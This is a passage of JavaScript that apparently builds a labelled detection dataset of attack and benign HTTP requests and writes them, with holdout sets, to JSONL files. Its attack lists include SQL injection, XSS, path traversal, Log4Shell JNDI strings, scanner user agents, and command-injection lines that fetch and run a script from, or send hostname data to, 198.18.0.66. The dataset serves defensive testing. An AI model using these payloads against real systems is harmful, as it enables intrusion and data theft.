  "1%27%20or%20%271%27%3D%271", "-5 OR 7=7", "' OR username LIKE '%adm%",
].forEach((p, i) => HA('sqli', i % 2 ? 'POST' : 'GET', i % 2 ? '/account/lookup' : `/catalog?pid=${full(p)}`, i % 2 ? { body: `email=${form(p)}` } : {}));
[
  '<img src=1 onmouseover=alert(1)>', '<svg><g onload="javascript:alert(1)"></g></svg>', '<a href="JaVaScRiPt:alert(1)">go</a>',
  '<iframe/src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>', '"onmouseover="alert(1)', "</title><script>alert(1)</script>",
  '<audio src=x onerror=alert(1)>', '<link rel=import href=//198.18.0.66/x>', '<table background="javascript:alert(1)">', "';confirm(1);'",
  '<p onclick=alert(1)>click me</p>', '<object type="text/x-scriptlet" data="http://198.18.0.66/x.sct"></object>',
].forEach((p, i) => HA('xss', 'GET', `/profile?${['name', 'bio', 'city'][i % 3]}=${i % 2 ? full(p) : light(p)}`));
[
  '../../../../../../boot.ini', '..%2F..%2F..%2Fetc%2Fgroup', 'C:\\..\\..\\Windows\\win.ini', '..//..//..//etc/passwd', '.%2e/.%2e/.%2e/etc/passwd',
  '/proc/self/cmdline', 'file:///c:/windows/win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '../../../../../etc/passwd%00', '..%5C..%5C..%5Cinetpub%5Cwwwroot%5Cweb.config',
].forEach((p, i) => HA('traversal', 'GET', `/view?${['f', 'name', 'file', 'tpl'][i % 4]}=${/%|\\/.test(p) ? p.replace(/\\/g, '%5C') : light(p)}`));
[
  'example.com | cat /etc/hosts', '127.0.0.1;id;', '$(id)', 'x`uname`', '127.0.0.1 & whoami', 'a|wget -qO- http://198.18.0.66/s|sh',
  '8.8.8.8;sleep 3', "||ping -c 4 198.18.0.66||", '1;cat${IFS}/etc/passwd', 'foo && curl http://198.18.0.66/?$(hostname)',
].forEach((p, i) => HA('cmdi', i % 2 ? 'POST' : 'GET', i % 2 ? '/device/diagnostics' : `/net/lookup?addr=${full(p)}`, i % 2 ? { body: `addr=${form(p)}` } : {}));
[
  '${jndi:ldap://198.18.0.66/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}', '${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://198.18.0.66/x}',
  '${${::-J}${::-n}${::-D}${::-i}:${::-r}${::-m}${::-i}://198.18.0.66/x}', '${jndi:ldap://${env:USER}.198.18.0.66/x}', '${${upper:${lower:j}}ndi:dns://198.18.0.66}',
  '%24%7Bjndi:ldap://198.18.0.66/z%7D',
].forEach((p, i) => HA('jndi', 'GET', i % 2 ? `/?q=${p.startsWith('%') ? p : full(p)}` : '/', i % 2 ? {} : { headers: { 'X-Client-Data': p } }));
[
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)', 'sqlmap/1.5.11#stable (http://sqlmap.org)', 'Nikto', 'masscan-ng/1.3',
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:77.0) Gecko/20100101 Firefox/77.0 (nuclei)', 'WPScan v3.8.25', 'gobuster/3.1.0', 'zgrab/0.x',
].forEach((ua, i) => HA('scanner', 'GET', ['/', '/login', '/api/', '/.env'][i % 4], { headers: { 'User-Agent': ua } }));

const holdBenign = [];
const HB = (kind, method, target, extra) => holdBenign.push({ ...req('benign', method, target, extra), kind });
[
  "Shaquille O'Neal stats", "Baker's dozen recipe", "it's a bird, it's a plane", 'select comfort mattress', 'union jack flag', 'drop the mic meaning',
  "McDonald's breakfast hours", 'table for two', 'where is my refund', 'or else movie', 'and then there were none', '1 + 1 = 2', "5' 2\" tall",
  "women's shoes size 8", "'quoted' search", 'rock & roll hall of fame', 'A&W root beer', 'M&Ms colors', 'ping identity jobs', 'cat in the hat',
  'the sleep cycle app', 'echo park los angeles', 'kill the lights lyrics', 'head first java', 'ls 2024 model', "Hershey's kisses", 'who is on first',
  "let's go", '100% cotton t-shirt', 'AT&T fiber', 'x + y > z', 'if then else flowchart', 'script font generator', 'javascript array map', 'path of exile',
  "d'Artagnan", "l'Oréal paris", "can't stop won't stop", 'SELECT * tutorial for beginners', 'html <br> tag', 'less than < greater than >',
].forEach((q, i) => {
  HB('search', 'GET', `/search?q=${form(q)}`);
  HB('search', 'POST', '/api/search', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ q, page: i % 4 }) });
  HB('search', 'GET', `/shop?term=${full(q)}&sort=popular`);
});
[
  'Hi team,\nplease review PR #42; it fixes the login bug & adds tests.\nThanks, Ana', 'Recipe: 2 cups flour, 1/2 cup sugar; mix & bake at 180°C for 25-30 min.',
  "I've tried rebooting, clearing the cache (Ctrl+Shift+R) and logging out/in — still broken.", 'My address is 10 Downing St., London SW1A 2AA.',
  "The function returns -1 if the value isn't found; otherwise the index.", 'Use a = b || c; to default a value in JS.',
  "Rating: 4/5 — good value. Delivery took 3 days; packaging was fine.", 'See section 3.2 (pp. 14-16) and the appendix.',
  'npm run build && npm test', 'Quote of the day: "Simplicity is prerequisite for reliability."',
].forEach((t, i) => {
  HB('form', 'POST', '/messages', { body: `to=${form('support')}&text=${form(t)}&priority=${i % 3}` });
  HB('form', 'POST', '/api/tickets', { headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ description: t, tags: ['help'] }) });
});
['/shop/mens/shirts?size=L&color=blue', '/images/2024/05/photo.final.v3.jpeg', '/docs/v1.2.3/api.html#section-2', '/u/jane.doe', '/static/app.3f9a.js',
 '/api/users/42/orders?status=shipped&from=2024-01-01', '/blog/what-i-learned-in-2023', '/files/Q1%202024%20report.pdf', '/download/setup_x64.msi',
 '/search?q=%22exact+phrase%22', '/wiki/Rock_%27n%27_roll', '/maps/@47.60,-122.33,12z'].forEach((p) => {
  HB('path', 'GET', p);
  HB('path', 'GET', p, { headers: { Cookie: "session=f00ba4; recent=shirts%2Cjeans; name=O'Hara" } });
});

const attacksOut = attacks.map((r, i) => JSON.stringify({ id: `a${String(i + 1).padStart(4, '0')}`, ...r })).join('\n') + '\n';
const benignOut = benign.map((r, i) => JSON.stringify({ id: `b${String(i + 1).padStart(4, '0')}`, ...r })).join('\n') + '\n';
writeFileSync(join(here, 'attacks.jsonl'), attacksOut);
writeFileSync(join(here, 'benign.jsonl'), benignOut);
const count = (xs) => xs.reduce((m, r) => ({ ...m, [r.label === 'benign' ? r.kind : r.label]: (m[r.label === 'benign' ? r.kind : r.label] ?? 0) + 1 }), {});
writeFileSync(join(here, 'attacks-holdout.jsonl'), holdAttacks.map((r, i) => JSON.stringify({ id: `ha${String(i + 1).padStart(3, '0')}`, ...r })).join('\n') + '\n');
writeFileSync(join(here, 'benign-holdout.jsonl'), holdBenign.map((r, i) => JSON.stringify({ id: `hb${String(i + 1).padStart(3, '0')}`, ...r })).join('\n') + '\n');
console.log(`attacks: ${attacks.length}`, count(attacks));
console.log(`held out: ${holdAttacks.length} attacks, ${holdBenign.length} benign`);
console.log(`benign: ${benign.length}`, count(benign));
